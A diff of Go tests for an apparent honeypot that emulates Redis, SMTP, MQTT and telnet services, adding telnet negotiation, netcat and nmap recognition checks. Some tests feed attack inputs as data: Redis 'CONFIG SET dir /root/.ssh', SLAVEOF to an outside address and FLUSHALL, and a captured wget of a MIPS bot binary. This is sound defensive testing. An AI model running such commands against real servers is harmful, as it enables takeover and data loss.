@@ -32,11 +32,11 @@ const (
 // tested lists every example and the Debian packages of the clients its test drives, so that
 // a new example without a test fails TestEveryExampleIsTested.
 var tested = map[string]string{
-	"redis.yaml":  "redis-tools",
-	"smtp.yaml":   "swaks netcat-openbsd",
-	"mqtt.yaml":   "mosquitto-clients",
+	"redis.yaml":  "redis-tools nmap",
+	"smtp.yaml":   "swaks netcat-openbsd nmap",
+	"mqtt.yaml":   "mosquitto-clients netcat-openbsd nmap",
 	"dns.yaml":    "dnsutils",
-	"telnet.yaml": "socat",
+	"telnet.yaml": "socat netcat-openbsd nmap",
 }
 
 func exampleNames(t *testing.T) []string {
@@ -495,6 +495,18 @@ func TestRedis(t *testing.T) {
 		wantValues(t, acts, "captured val", captured(acts, "val"), "v v")
 	})
 
+	t.Run("GET with a wrong number of arguments", func(t *testing.T) {
+		mark := srv.mark()
+		out := runOK(t, "", cli, "--no-raw", "-h", "127.0.0.1", "-p", port, "GET", "a", "b")
+		if got, want := strings.TrimSpace(out), "(error) ERR wrong number of arguments for 'get' command"; got != want {
+			t.Errorf("GET a b: got %q, want %q", got, want)
+		}
+		acts := srv.waitEnded(t, mark)
+		if got := executed(acts); !slices.Equal(got, []int32{13}) {
+			t.Errorf("executed %v, want [13]; activities:\n%s", got, dump(acts))
+		}
+	})
+
 	t.Run("CONFIG SET and SLAVEOF alert", func(t *testing.T) {
 		mark := srv.mark()
 		out := runOK(t, "CONFIG SET dir /root/.ssh\nSLAVEOF 203.0.113.7 21000\nFLUSHALL\n", cli, "--no-raw", "-h", "127.0.0.1", "-p", port)
@@ -950,7 +962,11 @@ func TestTelnet(t *testing.T) {
 	term := startTerminal(t, socat, "-", "TCP:"+srv.addr())
 
 	prompt := "admin@router:~$ "
-	term.expect("router login: ")
+	// Linux telnetd's first words: IAC DO TERMINAL-TYPE, TSPEED, XDISPLOC, NEW-ENVIRON
+	term.expect(telnetDo)
+	// a telnet client's answers (IAC WONT each) get the banner and the login prompt
+	term.send("\xff\xfc\x18\xff\xfc\x20\xff\xfc\x23\xff\xfc\x27")
+	term.expect("\r\nUbuntu 22.04.4 LTS\r\nrouter login: ")
 	term.send("admin")
 	term.expect("Password: ")
 	term.send("admin123")
@@ -992,7 +1008,10 @@ func TestTelnet(t *testing.T) {
 	wantValues(t, acts, "captured cmd", captured(acts, "cmd"), "nmap", "wget")
 	wantValues(t, acts, "captured url", captured(acts, "url"), "http://203.0.113.5/bins/mips")
 	wantValues(t, acts, "captured applet", captured(acts, "applet"), "PARLEY")
-	want := []int32{1, 2, 11, 14, 15, 17, 20, 99, 18, 21, 22, 10}
+	if strings.Count(term.out.String(), "router login: ") != 1 {
+		t.Errorf("the login prompt came more than once:\n%s", term.out.String())
+	}
+	want := []int32{3, 1, 2, 11, 14, 15, 17, 20, 99, 18, 21, 22, 10}
 	if got := executed(acts); !slices.Equal(got, want) {
 		t.Errorf("executed %v, want %v; activities:\n%s", got, want, dump(acts))
 	}
@@ -1012,3 +1031,101 @@ func TestTelnet(t *testing.T) {
 		t.Errorf("stage = %q, want shell", got)
 	}
 }
+
+// telnetDo is what Linux's telnetd sends first, and what nmap recognises it by.
+const telnetDo = "\xff\xfd\x18\xff\xfd\x20\xff\xfd\x23\xff\xfd\x27"
+
+// A raw client does not negotiate: an empty line gets the banner and the login prompt.
+func TestTelnetRawClient(t *testing.T) {
+	nc := client(t, "nc.openbsd", "netcat-openbsd")
+	srv := serve(t, "telnet.yaml")
+	mark := srv.mark()
+	term := startTerminal(t, nc, "-N", "127.0.0.1", strconv.Itoa(srv.port))
+	term.expect(telnetDo)
+	term.send("")
+	term.expect("\r\nUbuntu 22.04.4 LTS\r\nrouter login: ")
+	term.send("root")
+	term.expect("Password: ")
+	term.send("toor")
+	term.expect("root@router:~$ ")
+	// a late option answer (IAC DONT ECHO) is taken silently; then the client leaves
+	term.send("\xff\xfe\x01")
+	_ = term.stdin.Close() // -N: nc shuts its side down, the decoy ends the conversation
+	term.exit()
+	acts := srv.waitEnded(t, mark)
+	wantValues(t, acts, "captured user", captured(acts, "user"), "root")
+	if got, want := executed(acts), []int32{1, 2, 4}; !slices.Equal(got, want) {
+		t.Errorf("executed %v, want %v; activities:\n%s", got, want, dump(acts))
+	}
+	if last := inputsOf(acts, 4); len(last) != 1 || !strings.HasSuffix(term.out.String(), "root@router:~$ ") {
+		t.Errorf("the late option answer got a reply:\n%q", term.out.String())
+	}
+}
+
+// --- nmap: every TCP example is recognised as the service it emulates ---
+
+// nmapService is the service `nmap -sV` must name for each TCP example, and the options that
+// make nmap send, on a free port, the probe it sends on the service's own port.
+var nmapService = map[string]struct {
+	service string
+	args    []string
+}{
+	// the NULL probe: the 220 banner (Postfix smtpd)
+	"smtp.yaml": {service: "smtp"},
+	// the NULL probe: Linux telnetd's option negotiation
+	"telnet.yaml": {service: "telnet"},
+	// the GetRequest probe: an inline GET with two arguments and Redis's arity error
+	"redis.yaml": {service: "redis"},
+	// the MQTT CONNECT probe, answered by a CONNACK: nmap sends it to port 1883 at its
+	// default intensity and elsewhere only with every probe (it is rarity 9); the other
+	// probes end at once, as a broker closes on a first packet that is not CONNECT
+	"mqtt.yaml": {service: "mqtt", args: []string{"--version-all"}},
+}
+
+// TestNmapRecognisesTCPExamples scans each TCP example with nmap -sV on a free port and
+// checks the service it names. The scans run in parallel: each takes from a few seconds
+// (a banner) to half a minute (every probe).
+func TestNmapRecognisesTCPExamples(t *testing.T) {
+	bin, err := exec.LookPath("nmap")
+	if err != nil {
+		t.Skipf("nmap not found (%v): install the Debian package nmap (apt-get install -y nmap) to check what scanners see", err)
+	}
+	for _, name := range exampleNames(t) {
+		doc, err := Rules(name)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if doc.Rules.Spec.Operation.Transport == v1alpha1.TransportUDP {
+			continue
+		}
+		t.Run(name, func(t *testing.T) {
+			want, ok := nmapService[name]
+			if !ok {
+				t.Fatalf("%s is a TCP example: add the service nmap -sV must recognise to nmapService", name)
+			}
+			t.Parallel()
+			srv := serve(t, name)
+			port := strconv.Itoa(srv.port)
+			args := append([]string{"-sV", "-Pn", "-n", "--max-retries", "1", "-p", port, "-oG", "-"}, want.args...)
+			args = append(args, "127.0.0.1")
+			ctx, cancel := context.WithTimeout(context.Background(), nmapTimeout)
+			defer cancel()
+			out, err := exec.CommandContext(ctx, bin, args...).CombinedOutput()
+			if err != nil {
+				t.Fatalf("nmap %s: %v\n%s", strings.Join(args, " "), err, out)
+			}
+			// grepable output: "Ports: 2525/open/tcp//smtp//Postfix smtpd/"
+			m := regexp.MustCompile(`\b` + port + `/open/tcp//([^/]*)//([^/]*)/`).FindStringSubmatch(string(out))
+			if m == nil {
+				t.Fatalf("nmap found no open port %s:\n%s", port, out)
+			}
+			if m[1] != want.service {
+				t.Errorf("nmap -sV says %q (%s), want %q:\n%s", m[1], m[2], want.service, out)
+			}
+			t.Logf("nmap -sV: %s (%s)", m[1], m[2])
+		})
+	}
+}
+
+// nmapTimeout bounds one scan: --version-all sends every probe, on two busy cores.
+const nmapTimeout = 3 * time.Minute
